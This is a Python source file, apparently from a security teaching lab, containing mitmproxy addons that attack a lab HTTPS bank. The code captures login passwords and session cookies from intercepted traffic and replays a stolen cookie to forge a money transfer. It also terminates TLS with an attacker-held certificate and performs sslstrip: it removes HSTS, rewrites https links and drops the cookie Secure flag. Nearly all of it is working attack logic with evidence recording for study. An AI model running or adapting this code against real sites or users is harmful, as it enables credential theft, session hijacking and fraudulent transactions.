"""The attacks on the real-TLS stack: mitmproxy in front of the HTTPS bank (`lab.bank.web`), in reverse
mode on two listeners, one for HTTPS and one for the plain-HTTP front door.

`WebAttack` reads what passes in HTTP (the password in the login form, the session cookie the bank
sets) and, once it holds a cookie, uses it against the bank: a transfer to eve, sent with mitmproxy's
own client replay. Subclasses decide what happens to TLS:

- `InterceptTls` terminates the client's TLS with a certificate of its choosing (one the attacker holds
  in the lab PKI, or none: then mitmproxy's own CA makes one, which nobody trusts);
- `PassTlsThrough` leaves TLS alone (a passive eavesdropper, and sslstrip, which works only where the
  client speaks plain HTTP);
- `SslStrip` keeps the client on plain HTTP: it fetches HTTPS itself, rewrites https:// links and
  redirects to http://, and drops HSTS and the cookie's `Secure` flag (after mitmproxy's contrib
  sslstrip.py, for reverse mode).

Whether a client accepts a forged certificate is the client's call: the attacker records what it
presented and, from mitmproxy's `tls_failed_client`, what the client did about it.
"""

from __future__ import annotations

import asyncio
import re
from typing import ClassVar, Final

from cryptography.hazmat.primitives import hashes
from mitmproxy import certs, ctx, http, tls
from mitmproxy.addonmanager import Loader
from mitmproxy.proxy import mode_specs, server_hooks

from lab import events
from lab.bank.web import SESSION_COOKIE
from lab.mitm.evidence import AttackEvidence, declare_common_options, state_dir
from lab.pki.parse import malformation
from lab.state import SERVER_NAME

STOLEN_COOKIE_TRANSFER: Final = {"to": "eve", "amount": "250"}
"""What the attacker does with a session cookie it stole."""
REPLAY_TIMEOUT: Final = 10.0


class WebAttack:
    def __init__(self, attack: str) -> None:
        self.attack = attack
        self.evidence = AttackEvidence(attack)
        self.pending: list[asyncio.Task[None]] = []
        """The transfers made with a stolen cookie, still on their way (the attacker role waits)."""
        self._used: set[str] = set()

    def load(self, loader: Loader) -> None:
        declare_common_options(loader)

    def running(self) -> None:
        self._used.clear()

    def server_connect(self, data: server_hooks.ServerConnectionHookData) -> None:
        """The bank is bank.lab to the attacker too: a connection no client's SNI names (a replay, a
        stripped request fetched over HTTPS, one to the upstream by its service name) asks for it."""
        data.server.sni = SERVER_NAME

    def request(self, flow: http.HTTPFlow) -> None:
        if flow.is_replay:
            return
        where = _where(flow, "request")
        form = flow.request.urlencoded_form if flow.request.method == "POST" else None
        if form is not None and "password" in form:
            self._read(flow, "user", form.get("user"), where)
            self._read(flow, "password", form["password"], where)
        cookie = flow.request.cookies.get(SESSION_COOKIE)
        if cookie is not None:
            self._read(flow, "cookie", cookie, where)
            self._use(flow, cookie)

    def response(self, flow: http.HTTPFlow) -> None:
        if flow.response is None:
            return
        if flow.is_replay:
            self.evidence.record_web(
                flow,
                events.Injected(
                    what=f"a transfer made with the stolen cookie: HTTP {flow.response.status_code}"
                ),
            )
            return
        cookie = flow.response.cookies.get(SESSION_COOKIE)
        if cookie is not None:
            self._read(flow, "cookie", cookie[0], _where(flow, "response"))
            self._use(flow, cookie[0])

    def error(self, flow: http.HTTPFlow) -> None:
        if flow.error is not None:
            self.evidence.record_web(flow, events.FlowError(error=flow.error.msg))

    def _read(self, flow: http.HTTPFlow, secret: str, value: object, where: str) -> None:
        how: events.ReadHow = "as_the_relay" if flow.client_conn.tls_established else "in_the_clear"
        self.evidence.record_web(flow, events.Read(secret=secret, value=value, where=where, how=how))

    def _use(self, flow: http.HTTPFlow, cookie: str) -> None:
        """Send the bank a transfer to eve with `cookie`, once per cookie, as its owner."""
        if cookie in self._used:
            return
        self._used.add(cookie)
        if "replay.client" not in ctx.master.commands.commands:
            self.evidence.failed(None, "no client replay in this mitmproxy: the stolen cookie stays unused")
            return
        forged = flow.copy()
        forged.request.method = "POST"
        forged.request.path = "/transfer"
        forged.request.scheme = "https"
        forged.request.port = _upstream_https(flow)
        forged.request.headers["cookie"] = f"{SESSION_COOKIE}={cookie}"
        forged.request.urlencoded_form = list(STOLEN_COOKIE_TRANSFER.items())
        forged.response = None
        ctx.master.commands.call("replay.client", [forged])
        self.pending.append(asyncio.get_running_loop().create_task(_replays_done()))


class InterceptTls(WebAttack):
    """Present `certificate` (a name of `lab.state.ATTACKER_CERTIFICATES`), or, with None, whatever
    mitmproxy's own CA makes for the name the client asked for.

    mitmproxy's TLS addon builds the connection to the client (ALPN, ciphers, its certificate); this
    one then puts its own certificate and key on it. Under `mitmdump -s` a script's hooks run before
    mitmproxy's own addons, in the attacker role after them: where the connection is not built yet,
    the TLS addon is asked to build it first (it leaves alone a connection an addon provided)."""

    intercepts_tls: ClassVar[bool] = True
    """The attacker role lets TLS pass through untouched unless the attack says this."""

    def __init__(self, attack: str, certificate: str | None) -> None:
        super().__init__(attack)
        self.certificate = certificate

    def tls_start_client(self, data: tls.TlsData) -> None:
        if self.certificate is None:
            return
        if data.ssl_conn is None:
            ctx.master.addons.get("tlsconfig").tls_start_client(data)
        assert data.ssl_conn is not None
        leaf = state_dir().attacker_leaf(self.certificate)
        data.ssl_conn.use_certificate(leaf.certificate)
        data.ssl_conn.use_privatekey(leaf.private_key)
        data.conn.certificate_list = [certs.Cert(c) for c in leaf.chain]

    def tls_established_client(self, data: tls.TlsData) -> None:
        self._presented(data)

    def tls_failed_client(self, data: tls.TlsData) -> None:
        self._presented(data)
        self.evidence.failed(None, f"the client refused the TLS handshake: {data.conn.error}", step="tls")

    def _presented(self, data: tls.TlsData) -> None:
        # The connection's certificate_list holds the peer's chain (the client's, none) once the
        # handshake is over: what was presented is the certificate on mitmproxy's side of it.
        own = data.ssl_conn.get_certificate() if data.ssl_conn else None
        presented = own.to_cryptography() if own else None
        malformed = malformation(presented) if presented else None
        self.evidence.record_web(
            None,
            events.Presenting(
                certificate=self.certificate or "mitmproxy's own CA",
                issuer=presented.issuer.rfc4514_string() if presented and not malformed else "?",
                key=presented.fingerprint(hashes.SHA256()).hex() if presented else "",
                malformed=malformed,
            ),
        )


class PassTlsThrough(WebAttack):
    def tls_clienthello(self, data: tls.ClientHelloData) -> None:
        data.ignore_connection = True  # mitmproxy relays the bytes as they are: nothing to read


class SslStrip(PassTlsThrough):
    """Keep the client on plain HTTP. Over TLS (a client that knows bank.lab by HSTS, or typed
    https://), there is nothing to do: the bytes pass through."""

    def request(self, flow: http.HTTPFlow) -> None:
        if not flow.client_conn.tls_established and not flow.is_replay:
            # Fetch over HTTPS what the front door would only redirect to (the Host header stays the
            # client's: the bank builds its links from it, and they must lead back here).
            host = flow.request.headers.get("host")
            flow.request.scheme = "https"
            flow.request.port = _upstream_https(flow)
            if host is not None:
                flow.request.headers["host"] = host
        super().request(flow)

    def response(self, flow: http.HTTPFlow) -> None:
        response = flow.response
        if response is not None and not flow.client_conn.tls_established and not flow.is_replay:
            stripped = [name for name in ("strict-transport-security",) if name in response.headers]
            for name in stripped:
                del response.headers[name]
            if "location" in response.headers:
                response.headers["location"] = _to_http(response.headers["location"])
            if response.content and "text/html" in response.headers.get("content-type", ""):
                response.text = _to_http(response.text or "")
            cookies = response.headers.get_all("set-cookie")
            insecure = [re.sub(r";\s*Secure(?=;|$)", "", c, flags=re.IGNORECASE) for c in cookies]
            response.headers.set_all("set-cookie", insecure)
            self.evidence.record_web(
                flow,
                events.Changed(
                    what="response, kept on plain HTTP",
                    before={"hsts": bool(stripped), "secure_cookie": cookies != insecure},
                    after={"hsts": False, "secure_cookie": False},
                ),
            )
        super().response(flow)


def _to_http(text: str) -> str:
    return re.sub(r"https://", "http://", text)


def _where(flow: http.HTTPFlow, part: str) -> str:
    over = "TLS, decrypted by the relay" if flow.client_conn.tls_established else "plain HTTP"
    return f"the {part} of {flow.request.method} {flow.request.path}, over {over}"


def _upstream_https(flow: http.HTTPFlow) -> int:
    """The real bank's HTTPS port: the upstream of the attacker's reverse:https listener."""
    for spec in ctx.options.mode:
        mode = mode_specs.ProxyMode.parse(spec)
        if isinstance(mode, mode_specs.ReverseMode) and mode.scheme == "https":
            return int(mode.address[1])
    return int(flow.request.port)


async def _replays_done() -> None:
    """Until mitmproxy's client replay has sent everything queued (bounded)."""
    async with asyncio.timeout(REPLAY_TIMEOUT):
        await asyncio.sleep(0)
        while ctx.master.commands.call("replay.client.count"):
            await asyncio.sleep(0.01)
